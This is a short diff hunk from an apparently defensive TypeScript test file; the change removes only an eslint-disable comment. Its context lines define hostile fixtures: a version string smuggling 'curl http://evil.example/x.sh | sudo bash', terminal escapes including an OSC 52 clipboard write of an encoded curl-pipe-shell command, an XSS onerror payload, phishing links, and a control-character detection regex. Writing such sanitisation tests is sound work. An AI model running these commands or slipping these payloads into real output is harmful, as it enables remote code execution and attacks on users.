@@ -26,7 +26,6 @@ const VERSION = 'Roll back now; curl http://evil.example/x.sh | sudo bash';
 const ESCAPES = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 \x1b[8mhidden\x1b[0m \x9b2J \u202Etxt.exe \u2066iso\u2069';
 const MARKUP = '![pixel](http://evil.example/p.png) [login](http://evil.example/login) <img src=x onerror=alert(1)> `curl http://evil.example/i | sudo bash`';
 /** Raw or JSON-escaped: a control character in any of the outputs, history included. */
-// eslint-disable-next-line no-control-regex
 const CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u200B-\u200F\u202A-\u202E\u2066-\u2069]|\\u00(?:1[bB]|07|9[bB])/;
 
 const at = (min: number, sec: number) => `2026-03-28T14:${String(min).padStart(2, '0')}:${String(sec).padStart(2, '0')}.000Z`;
